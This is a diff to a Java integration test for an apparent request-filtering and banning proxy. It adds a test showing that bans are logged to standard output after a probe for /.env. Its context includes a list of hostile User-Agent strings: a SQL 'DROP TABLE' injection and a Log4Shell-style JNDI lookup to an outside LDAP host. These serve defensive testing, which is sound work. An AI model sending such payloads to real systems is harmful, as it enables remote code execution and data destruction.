@@ -34,6 +34,7 @@ class LogReadersIT {
             "'; DROP TABLE logs; --",
             "${jndi:ldap://203.0.113.66/a}",
             "%h %l %u %t %%");
+
     private static final String LONG = "x".repeat(3000);
 
     private final SocketOrigin site = new SocketOrigin();
@@ -126,9 +127,24 @@ class LogReadersIT {
     private void visitHostile(String address) throws IOException {
         try (Visitor visitor = portcullis.visitor(address)) {
             for (String agent : HOSTILE) {
-                assertThat(visitor.get("/page", "User-Agent: " + agent).status()).isEqualTo(200);
+                assertThat(visitor.get("/page", "User-Agent: " + agent).status())
+                        .isEqualTo(200);
             }
         }
+    }
+
+    @Test
+    void bansMayGoToStandardOutputBesideTheAccessLog() throws IOException {
+        portcullis.configure("origin = \"" + site.origin() + "\"\nban-log = \"-\"\n");
+        assertThat(portcullis.reload()).isEqualTo(200);
+        try (Visitor thief = portcullis.visitor("127.0.0.91")) {
+            assertThat(thief.get("/.env").status()).isEqualTo(403);
+        }
+        portcullis.ask("ban", "remove", "127.0.0.91");
+
+        String made = portcullis.program().awaitLine(SOON, "the ban", line -> line.contains("\"event\":\"banned\""));
+        assertThat(made).startsWith("{").endsWith("}").contains("\"subject\":\"127.0.0.91\"", "\"rule\":\"probes\"");
+        portcullis.program().awaitLine(SOON, "its end", line -> line.contains("\"event\":\"lifted\""));
     }
 
     @Test
